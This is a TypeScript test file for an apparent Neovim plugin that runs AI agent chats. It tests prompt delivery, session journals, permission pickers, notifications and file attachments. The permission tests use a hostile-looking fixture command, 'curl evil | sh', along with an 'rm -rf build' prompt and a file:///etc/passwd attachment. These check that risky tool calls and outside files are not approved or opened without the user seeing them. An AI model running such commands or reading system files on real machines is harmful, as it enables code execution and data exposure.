import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { Chat } from '../../../../src/app/chat/chat.ts';
import { AcpError } from '../../../../src/base/errors.ts';
import type { Setting } from '../../../../src/model/agent.ts';
import { RenderLoop } from '../../../../src/nvim/render-loop.ts';
import { Journal } from '../../../../src/session/journal/journal.ts';
import { aChunk, anAgentSpec, aPermission, aToolCall, aToolPatch } from '../../../support/builders.ts';
import { ManualClock } from '../../../support/doubles/clock.ts';
import { settle } from '../../../support/doubles/deferred.ts';
import { EditorDouble } from '../../../support/doubles/editor.ts';
import { LauncherDouble } from '../../../support/doubles/link.ts';
import { LogDouble } from '../../../support/doubles/log.ts';
import { withoutFiles } from '../../../support/doubles/prompt-sources.ts';
import { outline } from '../../../support/session-events.ts';
import { aFolder } from '../../../support/system/temp.ts';
import { someOptions } from '../../../support/workspace/workspace.ts';

function aChat(file = path.join(aFolder(), '1.jsonl')) {
  const [editor, clock, log, launcher] = [
    new EditorDouble(),
    new ManualClock(),
    new LogDouble(),
    new LauncherDouble(),
  ];
  const renderLoop = new RenderLoop(editor, clock, log);
  const chat = new Chat(1, anAgentSpec(), new Journal(file, clock, log), {
    editor,
    clock,
    log,
    launcher,
    renderLoop,
    promptSources: withoutFiles(editor, clock),
    options: { get: () => someOptions },
  });
  const draw = async (ms = 16) => {
    clock.advance(ms);
    await settle(1);
    editor.calls.at(-1)?.answer.resolve('drawn');
    await settle(1);
  };
  const quiet = ['chat.state', 'chat.status', 'event.emit', 'history.set', 'prompt.state'];
  const ops = () => editor.sent.map(({ op }) => op).filter((op) => !quiet.includes(op));
  return { chat, editor, clock, launcher, renderLoop, file, draw, ops };
}

interface WaitingChange {
  readonly questions: readonly { readonly id: number }[];
  readonly gone: readonly number[];
  readonly count: number;
}

/** The questions that Neovim knows of. */
function waitingIds(editor: EditorDouble): readonly number[] {
  const known = new Set<number>();
  let last = 0;
  for (const { op, payload } of editor.sent) {
    if (op !== 'question.waiting') continue;
    const { questions, gone, count } = payload as unknown as WaitingChange;
    for (const id of gone) known.delete(id);
    for (const { id } of questions) known.add(id);
    last = count;
  }
  expect(known.size).toBe(last);
  return [...known];
}

/** The items of the last picker. */
function labels(editor: EditorDouble): readonly string[] {
  const sent = editor.sent.findLast(({ op }) => op === 'picker.open')!;
  return (sent.payload as { items: readonly { readonly label: string }[] }).items.map(({ label }) => label);
}

async function aReadyChat() {
  const parts = aChat();
  parts.chat.start();
  await parts.launcher.last.becomeReady();
  await parts.draw();
  return parts;
}

describe('a prompt', () => {
  it('is accepted before it can be returned', async () => {
    const { chat, launcher, ops } = aChat();
    launcher.failure = new Error('spawn ENOTDIR');
    await chat.send('hi');
    await settle();
    expect(ops()).toEqual(['prompt.accepted', 'chat.notify', 'prompt.return']);
  });

  it('is answered on the screen at once: only later words wait for the next frame', async () => {
    const { chat, editor, draw } = await aReadyChat();
    const drawn = () => JSON.stringify(editor.calls.filter(({ op }) => op === 'chat.draw').at(-1)?.payload);
    await chat.send('hi');
    await draw(0);
    // The agent gets it first.
    expect(drawn()).not.toContain('hi');
    await draw(24);
    expect(drawn()).toContain('hi');
    chat.session.report(aChunk('first words'));
    await draw(0);
    expect(drawn()).toContain('first words');
    chat.session.report(aChunk(' and others'));
    await draw(0);
    expect(drawn()).not.toContain('and others');
  });
});

describe('a journal', () => {
  const texts = ({ session }: Chat) =>
    session.state.entries.map((entry) =>
      'text' in entry ? entry.text.toString() : 'title' in entry ? entry.title : '',
    );

  /** A chat that was answered once, as it stands in its file. */
  async function aWritten() {
    const parts = await aReadyChat();
    await parts.chat.send('fix it');
    parts.chat.session.report({ kind: 'title', title: 'Parser' });
    parts.chat.session.report(aChunk('done'));
    parts.launcher.last.turns[0]!.resolve('cancelled');
    await settle();
    // What is written is on disk at once; the double of the agent ends when a test says so.
    void parts.chat.end();
    return parts.file;
  }

  it('has a prompt before the prompt buffer is cleared', async () => {
    const { chat, editor, file } = aChat();
    const tell = editor.send.bind(editor);
    let written = '';
    editor.send = (op, payload) => {
      if (op === 'prompt.accepted') written = fs.readFileSync(file, 'utf8');
      tell(op, payload);
    };
    await chat.send('fix it', { id: 'a' });
    expect(written).toContain('"prompt_queued","id":"a","text":"fix it"');
  });

  it('shows what was attached to a prompt again', async () => {
    const { chat, file, clock } = await aReadyChat();
    await chat.send('hello @url:https://example.org');
    expect(outline(chat.session.state)).toContain('attachments: https://example.org');
    void chat.end();
    const again = aChat(file);
    clock.advance(1_000);
    again.chat.start();
    expect(outline(again.chat.session.state)).toContain('attachments: https://example.org');
  });

  it('has the text of a frame before the frame is drawn', async () => {
    const { chat, editor, clock, file } = await aReadyChat();
    chat.session.report(aChunk('shown'));
    clock.advance(16);
    await settle(1);
    expect(JSON.stringify(editor.calls.at(-1)?.payload)).toContain('shown');
    expect(fs.readFileSync(file, 'utf8')).toContain('"text":"shown"');
  });

  it('of a reopened session is shown with its title, and the replay of the agent adds nothing', async () => {
    const written = await aWritten();
    const { chat, launcher, file, clock } = aChat();
    chat.start({ session: 's1', earlierJournal: written });
    expect(texts(chat)).toEqual(['fix it', 'done', 'Stopped.']);
    expect(chat.summary()).toMatchObject({ title: 'Parser', firstPrompt: 'fix it' });
    launcher.last.readiness.resolve({ name: 'tester', title: 'Tester', capabilities: { load: true } });
    await settle();
    chat.session.report(aChunk('fix it', 'user'));
    chat.session.report(aChunk('done'));
    launcher.last.opening.resolve('s1');
    await settle();
    expect(texts(chat)).toEqual(['fix it', 'done', 'Stopped.']);
    void chat.end();
    const again = new Chat(2, anAgentSpec(), new Journal(file, clock, new LogDouble()), {
      ...aChat(),
      promptSources: withoutFiles(new EditorDouble(), clock),
      options: { get: () => someOptions },
      clock,
      log: new LogDouble(),
    });
    again.start();
    expect(texts(again).slice(0, 3)).toEqual(['fix it', 'done', 'Stopped.']);
  });

  it('with damaged records is shown as far as possible, with a notice', async () => {
    const written = await aWritten();
    const lines = fs.readFileSync(written, 'utf8').split('\n');
    const damaged = lines.map((line) => line.replace('"text":"done"', '"text":5'));
    fs.writeFileSync(written, [...damaged, '{"at":1,"event":{"kind":"of a newer version"}}', ''].join('\n'));
    const { chat } = aChat();
    chat.start({ session: 's1', earlierJournal: written });
    expect(texts(chat)).toEqual(['fix it', 'Stopped.', expect.stringContaining('2 records of the journal')]);
    expect(chat.session.state.phase).toBe('starting');
  });

  it('that cannot be written causes a notice in the chat', async () => {
    const file = path.join(aFolder(), '1.jsonl');
    fs.symlinkSync('/dev/full', file);
    const { chat } = aChat(file);
    await chat.send('fix it');
    await settle();
    expect(texts(chat)).toContainEqual(expect.stringContaining('ENOSPC'));
  });
});

describe('an update of an agent', () => {
  it('that cannot be applied causes one notice in its chat', async () => {
    const { chat } = await aReadyChat();
    const broken = aChunk(null as unknown as string);
    for (const event of [broken, broken, aChunk('fine')]) chat.session.report(event);
    const titles = chat.session.state.entries.map((entry) => ('title' in entry ? entry.title : entry.kind));
    expect(titles).toEqual(['An update from the agent could not be shown.', 'message']);
  });
});

describe('a question', () => {
  it('is sent to Neovim when it is on the screen, with all open questions', async () => {
    const { chat, editor, draw, ops } = await aReadyChat();
    void chat.session.ask(aPermission());
    void chat.session.ask(aPermission());
    await settle();
    expect(ops()).toEqual([]);
    await draw();
    expect(waitingIds(editor)).toEqual([1, 2]);
  });

  it('is shown with the text and the options of the agent, the oldest first', async () => {
    const { chat, editor } = await aReadyChat();
    void chat.session.ask(aPermission());
    void chat.session.ask(aPermission());
    chat.questions.show();
    expect(editor.sent.at(-1)).toMatchObject({
      op: 'picker.open',
      payload: { chat: 1, id: 1, kind: 'acp.permission', prompt: 'Tester wants to run: rm -rf build' },
    });
    expect(labels(editor)).toEqual(['Allow once', 'Always allow', 'Reject', 'All 2 like this …']);
  });

  it('that does not exist is not shown', async () => {
    const { chat, ops } = await aReadyChat();
    chat.questions.show();
    expect(ops()).toEqual([]);
  });
});

describe('an answer', () => {
  it('about a tool call that has changed since its picker opened is refused, and the question shown again', async () => {
    const { chat, editor } = await aReadyChat();
    const answer = chat.session.ask(aPermission());
    chat.questions.show();
    chat.session.report(aToolCall({ rawInput: { command: 'curl evil | sh' } }));
    chat.questions.answer(1, 1, 0);
    expect(editor.sent.slice(-2)).toMatchObject([
      { op: 'user.notify', payload: { message: expect.stringContaining('has changed') } },
      { op: 'picker.open', payload: { id: 1, prompt: expect.stringContaining('curl evil | sh') } },
    ]);
    chat.questions.answer(1, 2, 0);
    expect(await answer).toBe('yes');
  });

  it('counts if the tool call was only repeated, or has started', async () => {
    const { chat } = await aReadyChat();
    const rawInput = { list: ['a'] };
    const answer = chat.session.ask(aPermission({ tool: aToolPatch({ rawInput }) }));
    chat.questions.show();
    chat.session.report(aToolCall({ rawInput: structuredClone(rawInput), status: 'running' }));
    chat.questions.answer(1, 1, 2);
    expect(await answer).toBe('no');
  });

  it('to a withdrawn question is refused with a message', async () => {
    const { chat, editor } = await aReadyChat();
    const withdrawal = new AbortController();
    void chat.session.ask(aPermission({ withdrawn: withdrawal.signal }));
    chat.questions.show();
    withdrawal.abort();
    chat.questions.answer(1, 1, 0);
    const message = 'nothing was answered: the question is no longer open';
    expect(editor.sent.at(-1)).toEqual({ op: 'user.notify', payload: { message, level: 'warn' } });
  });
});

describe('a picker that was closed', () => {
  it('postpones the question, and other questions still open by themselves', async () => {
    const { chat, editor } = await aReadyChat();
    void chat.session.ask(aPermission());
    void chat.session.ask(aPermission({ tool: aToolPatch({ toolCallId: 'call-2', title: 'second' }) }));
    chat.questions.show({ opensByItself: true });
    chat.questions.close(1);
    expect(chat.session.state.questions).toHaveLength(2);
    expect(waitingIds(editor)).toEqual([1, 2]);
    chat.questions.show({ opensByItself: true });
    expect(editor.sent.findLast(({ op }) => op === 'picker.open')?.payload).toMatchObject({ id: 2 });
    const before = editor.sent.length;
    chat.questions.show({ opensByItself: true });
    expect(editor.sent).toHaveLength(before);
    chat.questions.close(2);
    chat.questions.show();
    expect(editor.sent.at(-1)).toMatchObject({ op: 'picker.open', payload: { id: 1 } });
  });

  it('offers to stop the turn if the agent offers no option to reject', async () => {
    const { chat, editor } = await aReadyChat();
    void chat.session.ask(aPermission({ options: [{ id: 'y', name: 'Yes', kind: 'allow_once' }] }));
    chat.questions.show();
    expect(labels(editor)).toEqual(['Yes', 'Stop the turn']);
  });
});

describe('a login', () => {
  it('that the agent does not offer is explained in one line', async () => {
    const { chat, editor } = await aReadyChat();
    chat.login.show();
    const [message = ''] = editor.sent
      .filter(({ op }) => op === 'user.notify')
      .map(({ payload }) => `${payload.message}`);
    expect(message).toBe('Tester: Log in with its own program, then :AcpRestart');
  });
});

describe('news of a hidden chat', () => {
  const news = ({ sent: told }: EditorDouble) =>
    told.filter(({ op }) => op === 'chat.notify').map(({ payload }) => payload.text);

  it('report the end of a turn', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    await chat.send('hi');
    await chat.send('and');
    await settle();
    launcher.last.turns[0]?.resolve('end_turn');
    await settle();
    expect(news(editor)).toEqual([]);
    chat.session.report(aChunk('hello'));
    launcher.last.turns[1]?.resolve('end_turn');
    await settle();
    expect(news(editor)).toEqual(['Tester has finished · :AcpChat']);
  });

  it('report an error once per turn', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    await chat.send('hi');
    await settle();
    launcher.last.turns[0]?.reject(new AcpError('agent_error', 'out of\u202e tokens'));
    await settle();
    expect(news(editor)).toEqual(['Tester: out of� tokens']);
  });

  it("do not repeat the agent's name in an error that has it", async () => {
    const { chat, editor, launcher } = await aReadyChat();
    await chat.send('hi');
    await settle();
    launcher.last.turns[0]?.reject(new AcpError('agent_error', 'Tester reports an error: overloaded'));
    await settle();
    expect(news(editor)).toEqual(['Tester reports an error: overloaded']);
  });

  it('do not report a turn that the user has stopped', async () => {
    const { chat, editor, launcher } = await aReadyChat();
    await chat.send('hi');
    await settle();
    chat.session.cancel();
    launcher.last.turns[0]?.resolve('cancelled');
    await settle();
    expect(news(editor)).toEqual([]);
  });
});

describe('the elapsed time', () => {
  it('is drawn once a second while a turn runs', async () => {
    const parts = await aReadyChat();
    await parts.chat.send('hi');
    await parts.draw(24);
    const drawn = parts.editor.calls.length;
    for (let second = 0; second < 5; second += 1) {
      await parts.draw(1_000);
      await parts.draw();
    }
    const ticks = parts.editor.calls.length - drawn;
    expect(ticks).toBe(5);
    parts.launcher.last.turns[0]?.resolve('end_turn');
    await settle();
    await parts.draw();
    const before = parts.editor.calls.length;
    await parts.draw(10_000);
    expect(parts.editor.calls.length).toBe(before);
  });

  it('leaves no timer when the chat ends during a turn', async () => {
    const parts = await aReadyChat();
    await parts.chat.send('hi');
    await parts.draw(24);
    const drawn = parts.editor.calls.length;
    void parts.chat.end();
    parts.clock.advance(10_000);
    expect({ timers: parts.clock.pending, drawn: parts.editor.calls.length }).toEqual({ timers: 0, drawn });
  });
});

it('a chat replays the journal of an earlier host', async () => {
  const parts = await aReadyChat();
  await parts.chat.send('hi');
  parts.chat.session.report(aChunk('hello'));
  parts.clock.advance(1_000);
  const later = aChat(parts.file);
  later.chat.start();
  const texts = later.chat.session.state.entries.map((entry) =>
    entry.kind === 'message' ? `${entry.text}` : entry.kind,
  );
  expect(texts).toEqual(['hi', 'hello', 'notice']);
  await later.draw(0);
  expect(JSON.stringify(later.editor.calls[0]?.payload)).toContain('hello');
});

it('a chat draws all of its transcript on request', async () => {
  const { chat, editor, draw } = await aReadyChat();
  chat.session.report(aChunk('hello'));
  await draw();
  chat.redraw();
  await draw();
  expect(editor.calls.at(-1)?.payload.patches).toMatchObject([{ op: 'reset' }, { op: 'new' }]);
});

describe('the model picker', () => {
  const setting = (id: string, category: string): Setting => ({
    id,
    name: `The ${id}`,
    category,
    current: 'a',
    choices: [
      { value: 'a', name: 'First', description: undefined, group: undefined },
      { value: 'b', name: 'Second', description: undefined, group: undefined },
    ],
    source: 'option',
  });
  const withSettings = async (...settings: readonly Setting[]) => {
    const parts = await aReadyChat();
    parts.chat.session.report({ kind: 'settings', settings });
    return parts;
  };
  const promptOf = async (...settings: readonly Setting[]) => {
    const { chat, editor } = await withSettings(...settings);
    chat.settings.show({ category: 'model' });
    const { payload } = editor.sent.findLast(({ op }) => op === 'picker.open')!;
    return (payload as { prompt: string }).prompt;
  };

  it('prefers the setting with the id "model" in the category', async () => {
    expect(await promptOf(setting('provider', 'model'), setting('model', 'model'))).toBe('The model');
  });

  it('shows the only setting of the category, whatever its id', async () => {
    expect(await promptOf(setting('llm', 'model'), setting('mode', 'mode'))).toBe('The llm');
  });

  it('lists the settings if the category has several', async () => {
    expect(await promptOf(setting('big', 'model'), setting('small', 'model'))).toBe('Settings');
  });

  it('confirms the choice in the chat', async () => {
    const { chat, launcher } = await withSettings(setting('model', 'model'));
    const changing = chat.session.changeSetting('model', 'b');
    chat.session.report({ kind: 'setting', id: 'model', value: 'b' });
    launcher.last.changing.resolve();
    await changing;
    expect(chat.session.state.entries.at(-1)).toMatchObject({ kind: 'notice', title: 'The model: Second' });
  });
});

describe('an attachment', () => {
  const open = async (role: 'agent' | 'user', fields: object) => {
    const { chat, editor, draw } = await aReadyChat();
    const attachment = { kind: 'link', start: 0, end: 0, name: 'README.md', uri: '', ...fields } as const;
    chat.session.report({ kind: 'attachment', role, attachment });
    await draw();
    const entry = chat.session.state.entries.find(({ kind }) => kind === 'attachments')!;
    // The name of the agent may stand above.
    for (const line of [0, 1, 2]) await chat.entries.open(entry.id, line, { before: '', after: '' });
    return editor.sent.findLast(({ op }) => op === 'picker.open' || op === 'file.open')!;
  };

  it.each(['agent', 'user'] as const)(
    'in the words of the %s that is outside is shown first',
    async (role) => {
      const { op, payload } = await open(role, { uri: 'file:///etc/passwd' });
      expect(op).toBe('picker.open');
      expect(JSON.stringify(payload)).toContain('/etc/passwd');
    },
  );

  it('in the folders of the session opens', async () => {
    const { op, payload } = await open('agent', { uri: 'file:///work/README.md' });
    expect([op, payload]).toMatchObject(['file.open', { path: '/work/README.md' }]);
  });

  it('whose content the plugin has kept opens', async () => {
    const { op, payload } = await open('agent', {
      kind: 'text',
      uri: 'file:///etc/passwd',
      copy: '/kept/a.txt',
    });
    expect([op, payload]).toMatchObject(['file.open', { path: '/kept/a.txt' }]);
  });
});

describe('the time in which a chat was idle', () => {
  it.each([
    ['set back by an hour', 3_600_000],
    ['set forward by an hour', -3_600_000],
  ])('is right after the system clock was %s', async (_, ms) => {
    const { chat, clock } = await aReadyChat();
    clock.setBack(ms);
    clock.advance(59_000);
    expect(chat.isIdleFor(60_000)).toBe(false);
    clock.advance(1_000);
    expect(chat.isIdleFor(60_000)).toBe(true);
  });
});
